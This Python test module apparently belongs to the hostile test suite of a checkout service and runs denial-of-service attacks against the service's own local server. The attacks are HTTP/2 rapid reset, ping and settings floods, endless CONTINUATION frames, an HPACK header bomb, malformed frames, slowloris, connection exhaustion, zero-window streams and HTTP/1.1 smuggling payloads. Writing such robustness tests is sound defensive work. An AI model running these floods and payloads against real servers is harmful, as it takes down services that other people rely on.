"""One kind of abuse of a server's connections, for some seconds, in a process of its own.

    python -m tests.hostile.abuse rapid_reset 127.0.0.1:7600 127.0.0.1:7680 KEY 5

Prints how much of it there was, and ends by itself.
"""

from __future__ import annotations

import asyncio
import resource
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import dataclass

from tests.hostile import frames
from tests.hostile.frames import Line, call_headers, connect, frame

CALL = "/comptoir.v1.CheckoutService/GetCheckout"
FOLLOW = "/comptoir.v1.EventService/StreamEvents"
CONNECTIONS = 4
MANY_CONNECTIONS = 10_000
SPARE_FILES = 500
"""How many files a process needs besides its connections."""


@dataclass(frozen=True, slots=True)
class Target:
    """Whom to abuse, with which key, until when."""

    host: str
    port: int
    http_port: int
    key: str
    until: float

    @property
    def going(self) -> bool:
        """Whether there is time left."""
        return time.monotonic() < self.until


def allowed_connections(wanted: int = MANY_CONNECTIONS) -> int:
    """As many connections as are wanted, or as the limit of open files allows; the limit is raised first."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return max(min(wanted, hard - SPARE_FILES), 1)


async def _each(target: Target, act: Callable[[Line], Awaitable[int]], *, greet: bool = True) -> int:
    """Does something again and again on a few connections, each opened anew whenever the server has hung up."""

    async def one() -> int:
        count = 0
        while target.going:
            line = await connect(target.host, target.port, greet=greet)
            while line is not None and line.open and target.going:
                count += await act(line)
                await asyncio.sleep(0)
            if line is not None:
                line.close()
            await asyncio.sleep(0.02)
        return count

    return sum(await asyncio.gather(*(one() for _ in range(CONNECTIONS))))


async def rapid_reset(target: Target) -> str:
    """Calls that are opened and given up at once, as fast as they can be written."""
    headers = call_headers(CALL, target.key)

    async def act(line: Line) -> int:
        out = []
        for _ in range(100):
            stream = line.next_stream()
            out.append(frame(frames.HEADERS, frames.END_HEADERS, stream, headers))
            out.append(frame(frames.RST_STREAM, 0, stream, frames.CANCEL))
        await line.send(*out)
        return 100

    return f"{await _each(target, act)} calls opened and reset"


async def ping_flood(target: Target) -> str:
    """Pings by the thousand."""

    async def act(line: Line) -> int:
        await line.send(*[frame(frames.PING, 0, 0, bytes(8))] * 500)
        return 500

    return f"{await _each(target, act)} pings"


async def settings_flood(target: Target) -> str:
    """Settings by the thousand, each of which wants an acknowledgement."""

    async def act(line: Line) -> int:
        await line.send(*[frame(frames.SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00")] * 500)
        return 500

    return f"{await _each(target, act)} settings"


async def endless_headers(target: Target) -> str:
    """Headers that never end: a megabyte of metadata in one continuation after the other."""
    more = frames.header(b"x-more", b"a" * 16_000)

    async def act(line: Line) -> int:
        stream = line.next_stream()
        await line.send(frame(frames.HEADERS, 0, stream, call_headers(CALL, target.key)))
        for _ in range(64):
            await line.send(frame(frames.CONTINUATION, 0, stream, more))
        return 64

    return f"{await _each(target, act)} pieces of 16 kB of headers"


async def header_bomb(target: Target) -> str:
    """Small headers that grow to megabytes: one long entry of the table, named thousands of times."""
    bomb = frames.indexed(b"x-bomb", b"a" * 3_900) + b"\xbe" * 4_000

    async def act(line: Line) -> int:
        stream = line.next_stream()
        headers = call_headers(CALL, target.key, bomb)
        await line.send(frame(frames.HEADERS, frames.END_HEADERS | frames.END_STREAM, stream, headers))
        return 1

    return f"{await _each(target, act)} headers of 16 MB"


async def nonsense(target: Target) -> str:
    """Frames that no state allows: data on streams that are not open, windows that overflow, sizes that lie."""
    odd = (
        frame(frames.DATA, 0, 99, b"x" * 1_000),
        frame(frames.WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big")) * 2,
        frame(frames.CONTINUATION, 0, 1, b"\x00"),
        frame(frames.PRIORITY, 0, 1, (1).to_bytes(4, "big") + b"\x00"),
        frame(frames.PUSH_PROMISE, 0, 1, bytes(4)),
        frame(frames.HEADERS, frames.END_HEADERS, 2, b"\xff" * 50),
        frame(200, 255, 7, b"?" * 300),
        b"\xff\xff\xff" + bytes(6) + b"x" * 5_000,
        b"GET / HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01" + b"\x00" * 500,
    )
    number = iter(range(10**9))

    async def act(line: Line) -> int:
        await line.send(odd[next(number) % len(odd)])
        await asyncio.sleep(0.01)
        return 1

    return f"{await _each(target, act)} frames that make no sense"


async def slow_headers(target: Target) -> str:
    """Connections on which every byte takes a second, on both ports."""
    text = frames.PREFACE + frame(frames.SETTINGS, 0, 0)
    page = b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n" + b"x-slow: 1\r\n" * 100
    lines = []
    for number in range(400):
        port, said = (target.port, text) if number % 2 else (target.http_port, page)
        line = await connect(target.host, port, greet=False)
        if line is not None:
            lines.append((line, said))
    place = 0
    while target.going:
        for line, said in lines:
            await line.send(said[place : place + 1])
        place += 1
        await asyncio.sleep(0.5)
    still = sum(line.open for line, _ in lines)
    return f"{len(lines)} connections, {still} still open"


async def idle_connections(target: Target) -> str:
    """As many connections as can be, on which nothing happens."""
    wanted = allowed_connections()
    lines: list[Line] = []
    while len(lines) < wanted:
        more = await asyncio.gather(*(connect(target.host, target.port) for _ in range(min(100, wanted - len(lines)))))
        lines += [line for line in more if line is not None]
        if None in more:
            break
    while target.going:
        await asyncio.sleep(0.1)
    return f"{len(lines)} connections of {MANY_CONNECTIONS}, {sum(line.open for line in lines)} still open"


async def hoarded_calls(target: Target) -> str:
    """Calls that are opened and never get their request: as many as a connection takes, on many connections."""
    headers = call_headers(CALL, "nobody")
    lines = []
    for _ in range(30):
        line = await connect(target.host, target.port)
        if line is None:
            continue
        lines.append(line)
        for _ in range(10):
            opened = [frame(frames.HEADERS, frames.END_HEADERS, line.next_stream(), headers) for _ in range(100)]
            await line.send(*opened)
            await asyncio.sleep(0)
    while target.going:
        await asyncio.sleep(0.1)
    return f"{sum(line.stream // 2 for line in lines)} calls without a request on {len(lines)} connections"


async def endless_bodies(target: Target) -> str:
    """Requests that say they have four gigabytes, and begin to send them."""
    headers = call_headers(CALL, target.key)
    claim = b"\x00\xff\xff\xff\xff" + bytes(16_000)

    async def act(line: Line) -> int:
        stream = line.next_stream()
        await line.send(
            frame(frames.HEADERS, frames.END_HEADERS, stream, headers),
            frame(frames.DATA, 0, stream, claim),
            *[frame(frames.DATA, 0, stream, bytes(16_000))] * 20,
        )
        return 1

    return f"{await _each(target, act)} requests of 4 GB begun"


async def deaf_streams(target: Target) -> str:
    """Streams of events whose client gives the server no room to send anything, for as long as it likes."""
    no_room = frame(frames.SETTINGS, 0, 0, b"\x00\x04" + (0).to_bytes(4, "big"))
    subscribe = frames.message(b"\x0a\x06\x0a\x04deaf")
    headers = call_headers(FOLLOW, target.key)
    lines = []
    for _ in range(8):
        line = await connect(target.host, target.port)
        if line is None:
            continue
        lines.append(line)
        await line.send(no_room)
        for _ in range(100):
            stream = line.next_stream()
            opened = frame(frames.HEADERS, frames.END_HEADERS, stream, headers)
            await line.send(opened, frame(frames.DATA, 0, stream, subscribe))
    while target.going:
        await asyncio.sleep(0.1)
    return f"{sum(line.stream // 2 for line in lines)} streams that nobody reads"


async def endless_pages(target: Target) -> str:
    """HTTP requests whose headers or bodies never end, and pipelines of requests whose answers nobody reads."""
    begun = (
        b"POST /webhooks/paypal HTTP/1.1\r\nhost: x\r\ntransfer-encoding: chunked\r\n\r\n" + b"4000\r\n",
        b"GET /healthz HTTP/1.1\r\nhost: x\r\nx-long: ",
        b"POST /link/x/continue HTTP/1.1\r\nhost: x\r\ncontent-length: 99999999999\r\n\r\n",
        b"GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n" * 2_000,
        b"POST /webhooks/paypal HTTP/1.1\r\ncontent-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
        b"\x00" * 100 + b"\r\n\r\n",
    )
    sent = 0

    async def one(number: int) -> None:
        nonlocal sent
        while target.going:
            line = await connect(target.host, target.http_port, greet=False)
            if line is None:
                continue
            await line.send(begun[number % len(begun)])
            for _ in range(20):
                if not line.open or not target.going:
                    break
                await line.send(b"a" * 16_384)
                sent += 16_384
                await asyncio.sleep(0.01)
            line.close()

    await asyncio.gather(*(one(number) for number in range(len(begun) * 2)))
    return f"{sent // 1_000_000} MB of requests that never end"


KINDS: dict[str, Callable[[Target], Awaitable[str]]] = {
    kind.__name__: kind
    for kind in (
        rapid_reset,
        ping_flood,
        settings_flood,
        endless_headers,
        header_bomb,
        nonsense,
        slow_headers,
        idle_connections,
        hoarded_calls,
        endless_bodies,
        deaf_streams,
        endless_pages,
    )
}


async def main(kind: str, target: str, pages: str, key: str, seconds: str) -> None:
    """Abuses for some seconds and says how much."""
    host, _, port = target.rpartition(":")
    http_port = int(pages.rpartition(":")[2])
    print(await KINDS[kind](Target(host, int(port), http_port, key, time.monotonic() + float(seconds))), flush=True)


if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
